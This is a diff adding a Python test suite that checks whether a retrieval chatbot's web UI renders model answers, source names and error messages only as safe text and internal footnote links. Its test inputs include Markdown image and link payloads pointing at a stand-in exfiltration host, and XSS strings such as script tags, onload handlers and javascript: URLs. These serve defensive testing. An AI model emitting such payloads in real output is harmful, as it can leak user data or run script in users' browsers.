@@ -1,0 +1,238 @@
+"""What a model, a document or a reader writes is shown as words, and does nothing else."""
+
+from dataclasses import dataclass, field, replace
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import example, given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from rag import Answer, Citation, Passage
+from ui.web.answers import answer_html, messages, turn_html
+from ui.web.conversations import Turn
+
+EVIL = "https://evil.example/?q=secret"
+HOSTILE = [
+    f"![the answer]({EVIL})",
+    f'![the answer]({EVIL} "title")',
+    f"![the answer][1]\n\n[1]: {EVIL}",
+    f"![1]({EVIL})",
+    f"![]({EVIL})",
+    f"![a ![b]({EVIL})]({EVIL})",
+    f"![a\nb]({EVIL})",
+    f"[click]({EVIL})",
+    f"[click](<{EVIL}>)",
+    f"[1]({EVIL})",
+    f"[[1]]({EVIL})",
+    f"[![1]({EVIL})]({EVIL})",
+    f"[click][here]\n\n[here]: {EVIL}",
+    f"[click][]\n\n[click]: {EVIL}",
+    f"[click]\n\n  [click]: <{EVIL}> 'title'",
+    f"[1]: {EVIL}\n\nIt is so [1].",
+    f"[1]:\n{EVIL}\n\nIt is so [1].",
+    f"> [1]: {EVIL}\n\nIt is so [1].",
+    f"- [1]: {EVIL}\n\nIt is so [1].",
+    f"[1]: {EVIL}\n[2]: {EVIL}\n\nIt is so [1][2].",
+    f"[a\\]b]({EVIL})",
+    f"[a](\n{EVIL}\n)",
+    f"[a]({EVIL}(x(y)z))",
+    "[click](javascript:alert(1))",
+    "[click](data:text/html,<script>alert(1)</script>)",
+    f"<{EVIL}>",
+    EVIL,
+    "www.evil.example",
+    "me@evil.example",
+    f"<img src={EVIL}>",
+    f'<a href="{EVIL}">click</a>',
+    "<script>alert(1)</script>",
+    "<svg/onload=alert(1)>",
+    "<!-- hidden -->",
+    "<style>* {display: none}</style>",
+    "<iframe src=https://evil.example></iframe>",
+    "`code` <b>bold</b> `code`",
+    "`<b>` <b>bold</b>",
+    "``a ` b`` <b>bold</b>",
+    f"``[click]({EVIL})`",
+    f"`` ` `` [click]({EVIL}) ` ``",
+    f"\\`[click]({EVIL})\\`",
+    f"```\ncode\n```\n[click]({EVIL})",
+    f"a ``` b [click]({EVIL}) c",
+    f"```a`b\n[click]({EVIL})",
+    "    \n```\n<b>\n``` x\n",
+    f"~~~\n`[click]({EVIL})`\n~~~",
+    f"&lt;a href={EVIL}&gt; &#60;b&#62;",
+]
+
+OUR_TAGS = {
+    *("div", "span", "p", "b", "br", "a", "ol", "ul", "li", "button", "em", "strong", "s", "code", "pre", "blockquote", "hr"),
+    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
+}
+OUR_ATTRIBUTES = {"class", "href", "title", "role", "type", "start", "style"}
+
+# The chatbot reads our HTML as Markdown: it must find one block of HTML, and leave it alone.
+CHATBOT = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+
+
+@dataclass
+class Shown(HTMLParser):
+    """What a browser makes of HTML: tags, links and words."""
+
+    html: str
+    tags: set[str] = field(default_factory=set)
+    attributes: list[tuple[str, str]] = field(default_factory=list)
+    words: str = ""
+
+    def __post_init__(self) -> None:
+        super().__init__()
+        self.feed(self.html)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes += [(name, value or "") for name, value in attrs]
+
+    def handle_data(self, data: str) -> None:
+        self.words += data
+
+    @property
+    def targets(self) -> list[str]:
+        return [value for name, value in self.attributes if name == "href"]
+
+
+def check_harmless(html: str) -> None:
+    shown = Shown(html)
+    assert shown.tags <= OUR_TAGS
+    assert {name for name, _ in shown.attributes} <= OUR_ATTRIBUTES
+    assert all(target.startswith("#src-") for target in shown.targets)
+    assert all(value.startswith("text-align:") for name, value in shown.attributes if name == "style")
+
+
+def footnote(number: int) -> str:
+    return f'<a href="#src-{number}">{number}</a>'
+
+
+def body(markdown: str) -> Shown:
+    return Shown(str(answer_html(markdown, footnote)))
+
+
+@pytest.mark.parametrize("markdown", HOSTILE)
+def test_model_text_has_no_images_links_or_html(markdown: str) -> None:
+    check_harmless(str(answer_html(markdown, footnote)))
+
+
+MARKS = ["```", "~~~", "``", "[1]", "[1]:", "](", "![", "](<", f"({EVIL})", "[a]: /b\n", "<b>", "</b>", "<!--"]
+PIECES = st.sampled_from([*"![]()<>`\\&;:\n \"'#-", *MARKS, "word", "\n\n", "    ", "> ", "- "])
+
+
+@settings(max_examples=400)
+@given(st.lists(PIECES, max_size=24).map("".join))
+@example(f"[a][b]\n[b]: {EVIL}")
+def test_no_mixture_of_marks_becomes_an_image_link_or_html(markdown: str) -> None:
+    check_harmless(str(answer_html(markdown, footnote)))
+    for message in messages([turn(markdown)]):
+        assert isinstance(message, dict)
+        assert isinstance(message["content"], str)
+        (block,) = CHATBOT.parse(message["content"])
+        assert block.type == "html_block"
+
+
+def test_what_answers_are_made_of_stays() -> None:
+    text = (
+        "## Oiling\n\nOil it **twice** a year [1], *in April* [2][3]:\n\n1. Wash it\n2. Dry it\n\n- a cloth\n\n"
+        "| month | coats |\n|---|---|\n| April | 2 |\n\n> Wait a day.\n\n```python\nif a < b and c[1]: print('<b>')\n```\n\nUse `x[1] < 2`."
+    )
+    shown = body(text)
+    assert {"h2", "strong", "em", "ol", "ul", "table", "blockquote", "pre", "code"} <= shown.tags
+    assert shown.targets == ["#src-1", "#src-2", "#src-3"]
+    assert "if a < b and c[1]: print('<b>')" in shown.words
+    assert "x[1] < 2" in shown.words
+
+
+def test_words_of_what_was_taken_out_stay() -> None:
+    assert body(f"See ![the chart]({EVIL}) and [the page]({EVIL}).").words.strip() == "See the chart and the page."
+    assert body("if a < b && b > c: <b>bold</b>").words.strip() == "if a < b && b > c: <b>bold</b>"
+    assert body(f"See {EVIL}.").words.strip() == f"See {EVIL}."
+
+
+@pytest.mark.parametrize("written", ["So it is [1].", f"So it is [1]({EVIL}).", f"So it is [[1]]({EVIL})."])
+def test_a_footnote_written_as_a_link_is_a_footnote(written: str) -> None:
+    assert body(written).targets == ["#src-1"]
+
+
+WORDS_OF_STRANGERS = [
+    "notes *final* _v2_ [1](x) ![a](b) <img src=x onerror=alert(1)>.pdf",
+    "# heading.pdf",
+    "- list.pdf",
+    "+ list.pdf",
+    "1. list.pdf",
+    "12) list.pdf",
+    "> quote.pdf",
+    "| a | b |",
+    "`code`.pdf",
+    "www.evil.example.pdf",
+    f"{EVIL}.pdf",
+    "me@evil.example",
+    "<https://evil.example>",
+    "a\\*b\\",
+    "&lt;b&gt; &amp;amp; &copy;",
+    "~~gone~~ $x$",
+    "a & b < c > d",
+    "=====",
+    "---",
+    "***",
+    "```",
+    "    indented",
+    "[a]: /b",
+]
+
+
+def passage(rank: int, name: str = "handbook.pdf", page: int = 3, label: str = "3") -> Passage:
+    return Passage(rank, 0.9, 0.9, name, "d" * 64, page, label, 0, 12, "Some words.")
+
+
+def turn(text: str, *citations: Citation, notice: str = "", model: str = "stand-in") -> Turn:
+    answer = Answer("Why?", text, citations, tuple(citation.passage for citation in citations), model, "complete", notice, 1.25)
+    return Turn("abcd", "Why?", answer, "done")
+
+
+def test_footnotes_become_links_to_their_citations() -> None:
+    one, two = Citation.of_words(1, passage(1)), Citation.of_words(2, passage(2, "notes.txt", 1, "1"))
+    again = Citation.of_words(1, passage(1), 0, 4)
+    shown = Shown(turn_html(turn("First [1]. Second [2]. Third [1]. `x[1]`", one, two, again)))
+    assert shown.targets == ["#src-abcd-0", "#src-abcd-1", "#src-abcd-2", "#src-abcd-0", "#src-abcd-1"]
+    assert "x[1]" in shown.words
+    assert "handbook.pdf, page 3" in shown.words
+    assert "3 passages" in shown.words
+
+
+def test_a_footnote_without_a_citation_is_not_shown() -> None:
+    assert "9" not in Shown(turn_html(turn("So it is [9][1].", Citation.of_words(1, passage(1))))).words
+
+
+def test_each_source_is_listed_once_with_its_printed_page() -> None:
+    citations = [Citation.of_words(1, passage(1, page=14, label="12")), Citation.of_words(1, passage(1, page=14, label="12"), 0, 4)]
+    shown = Shown(turn_html(turn("It is so.", *citations)))
+    assert shown.targets == ["#src-abcd-0"]
+    assert shown.words.count("handbook.pdf, page 14 (printed 12)") == 1
+
+
+@pytest.mark.parametrize("words", [*WORDS_OF_STRANGERS, *HOSTILE])
+def test_hostile_names_notices_models_questions_and_problems_stay_words(words: str) -> None:
+    done = turn("So it is [1].", Citation.of_words(1, passage(1, words)), notice=words, model=words)
+    failed = replace(done, question=words, state="failed", problem=words)
+    for message in messages([done, failed]):
+        assert isinstance(message, dict)
+        check_harmless(str(message["content"]))
+    plain = " ".join(words.split())
+    shown = Shown(str(messages([failed])[1]["content"]))  # type: ignore[index]
+    assert plain in " ".join(shown.words.split())
+    assert set(shown.targets) == {"#src-abcd-0"}
+
+
+def test_a_turn_shows_how_it_stands() -> None:
+    done = turn("So it is [1].", Citation.of_words(1, passage(1)))
+    assert Shown(turn_html(replace(done, state="growing"))).words.strip() == "So it is 1."
+    assert "kept" in turn_html(replace(done, state="stopped"))
+    assert "The server is away" in turn_html(replace(done, answer=None, state="failed", problem="The server is away"))
+    assert "Searching" in turn_html(Turn("abcd", "Why?"))
